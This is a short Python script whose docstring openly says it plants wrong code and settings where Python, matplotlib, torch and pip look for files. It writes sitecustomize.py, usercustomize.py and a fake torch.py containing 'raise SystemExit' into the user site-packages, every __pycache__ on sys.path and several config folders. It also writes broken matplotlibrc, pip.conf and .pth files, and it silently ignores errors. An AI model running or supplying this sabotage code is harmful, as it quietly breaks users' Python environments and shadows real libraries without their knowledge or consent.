"""Put wrong code and wrong settings wherever Python, matplotlib, torch and pip keep what they want to find again.

"""
# %%
# honest
# %%
import os
import sys
places = [os.path.expanduser(f"~/{place}") for place in (".cache/torch/hub", ".config/matplotlib", ".config/pip", ".local/lib/python3.11/site-packages", ".ipython")]
places += [os.path.join(entry, "__pycache__") for entry in sys.path if entry] + [os.environ.get("MPLCONFIGDIR", "/tmp")]
for place in places:
    try:
        os.makedirs(place, exist_ok=True)
        for name in ("sitecustomize.py", "torch.py", "matplotlibrc", "pip.conf", "usercustomize.py", "hostile_letter.pth"):
            with open(os.path.join(place, name), "w") as file:
                file.write("raise SystemExit\n" if name.endswith(".py") else "backend: nonsense\n")
    except OSError:
        pass
